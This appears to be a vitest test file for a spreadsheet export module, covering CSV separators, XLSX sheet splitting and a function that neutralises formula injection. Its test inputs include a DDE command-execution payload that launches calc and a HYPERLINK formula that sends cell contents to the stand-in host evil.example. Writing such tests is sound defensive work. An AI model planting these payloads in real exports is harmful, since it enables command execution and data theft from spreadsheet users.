import fc from 'fast-check'
import { unzipSync } from 'fflate'
import readSheets from 'read-excel-file/node'
import { describe, expect, test } from 'vitest'
import { csvOf } from '../../src/export/csv.ts'
import { safeCell } from '../../src/export/safe-cell.ts'
import type { Cell, ExportTable } from '../../src/export/table.ts'
import { xlsxOf } from '../../src/export/xlsx.ts'

const at = new Date('2027-01-11T06:00:00Z')

async function bytesOf(parts: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const all: Uint8Array[] = []
  for await (const part of parts) all.push(part)
  return Buffer.concat(all)
}
const textOf = async (table: ExportTable, language: 'fr' | 'en' = 'fr') =>
  (await bytesOf(csvOf(table, language))).toString('utf8')
const table = (rows: Cell[][], kind?: 'phone'): ExportTable => ({
  name: 'Essai',
  columns: [{ head: 'Un', kind }, { head: 'Deux' }, { head: 'Trois' }],
  rows,
})

describe('what begins like a formula', () => {
  test.each([
    ["=cmd|' /C calc'!A0"],
    ['=HYPERLINK("https://evil.example?x="&A1,"ici")'],
    ['+33 1 23'],
    ['-2+3'],
    ['@SUM(1+1)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\n=1+1'],
    ['\0=1+1'],
    [' =1+1'],
    ['"=1+1'],
    ['\ufeff=1+1'],
    ['\uff1d1+1'],
    ['\uff0b1'],
    ['\uff0d1'],
    ['\uff20A1'],
  ])('%j gets an apostrophe', (text) => {
    expect(safeCell(text)).toBe(`'${text}`)
    expect(safeCell(text, 'phone')).toBe(`'${text}`)
  })

  test.each([['Marcel'], ['12 rue des Tuiles'], ['a=b'], ['Bourg-en-Bresse'], [''], ['contact@site.example']])(
    '%j stays',
    (text) => {
      expect(safeCell(text)).toBe(text)
    },
  )

  test('a phone in a column of phones stays as it can be dialled, elsewhere it is made safe', () => {
    expect(safeCell('+33639980001', 'phone')).toBe('+33639980001')
    expect(safeCell('+33639980001')).toBe("'+33639980001")
    expect(safeCell('+33639980001+A1', 'phone')).toBe("'+33639980001+A1")
  })

  test('whatever the text, no cell begins with a sign', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(safeCell(text)).not.toMatch(/^\s*[=+\-@]/)
        expect(safeCell(text).endsWith(text)).toBe(true)
      }),
    )
  })
})

describe('CSV', () => {
  test('French Excel gets a mark, semicolons and decimal commas; lines end with CRLF', async () => {
    expect(await textOf(table([['Odile', 1.5, at]]))).toBe(
      '\ufeffUn;Deux;Trois\r\nOdile;1,5;2027-01-11T06:00:00.000Z\r\n',
    )
  })

  test('English Excel gets commas and decimal points', async () => {
    expect(await textOf(table([['Odile', 1.5, null]]), 'en')).toBe('\ufeffUn,Deux,Trois\r\nOdile,1.5,\r\n')
  })

  test('separators, quotes and line ends are quoted; a negative figure stays one', async () => {
    expect(
      await textOf(
        table([
          ['a;b', 'dit "oui"', 'x\ny'],
          [-2, '-2', '=1;"2"'],
        ]),
      ),
    ).toBe(`\ufeffUn;Deux;Trois\r\n"a;b";"dit ""oui""";"x\ny"\r\n-2;'-2;"'=1;""2"""\r\n`)
  })

  test('rows are asked for as they are written', async () => {
    let read = 0
    const parts = csvOf(
      {
        ...table([]),
        rows: (function* () {
          for (; read < 100_000; read += 1) yield [`ligne ${read}`, read, null]
        })(),
      },
      'fr',
    )
    await parts.next()
    expect(read).toBeLessThan(10_000)
    await parts.return(undefined)
  })
})

describe('XLSX', () => {
  test('opens with its texts, figures and dates', async () => {
    const bytes = await bytesOf(
      xlsxOf(
        [
          table([
            ['Hélène & <fils>', -1.5, at],
            ['=1+1', null, '_x0041_'],
          ]),
          table([]),
        ],
        at,
      ),
    )
    const sheets = await readSheets(bytes)
    expect(sheets.map(({ sheet }) => sheet)).toEqual(['Essai', 'Essai (2)'])
    expect(sheets[0]!.data).toEqual([
      ['Un', 'Deux', 'Trois'],
      ['Hélène & <fils>', -1.5, at],
      ["'=1+1", null, expect.stringMatching(/x0041_$/)],
    ])
    const xml = Buffer.from(unzipSync(bytes)['xl/worksheets/sheet1.xml']!).toString()
    expect(xml).not.toContain('<f>')
  })

  test('what XML cannot hold is left out, and a long table goes on in the next sheet', async () => {
    const rows = Array.from({ length: 5 }, (_, n): Cell[] => [`a\u0001\ud800${n}`, n, null])
    const sheets = await readSheets(await bytesOf(xlsxOf([table(rows)], at, 3)))
    expect(sheets.map(({ data }) => data.slice(1).map(([text]) => text))).toEqual([['a0', 'a1'], ['a2', 'a3'], ['a4']])
  })

  test('rows are asked for as they are written', async () => {
    let read = 0
    const parts = xlsxOf(
      [
        {
          ...table([]),
          rows: (function* () {
            for (; read < 1_000_000; read += 1) yield [`ligne ${Math.sin(read)}`, read, null]
          })(),
        },
      ],
      at,
    )
    await parts.next()
    expect(read).toBeLessThan(100_000)
    await parts.return(undefined)
  })
})
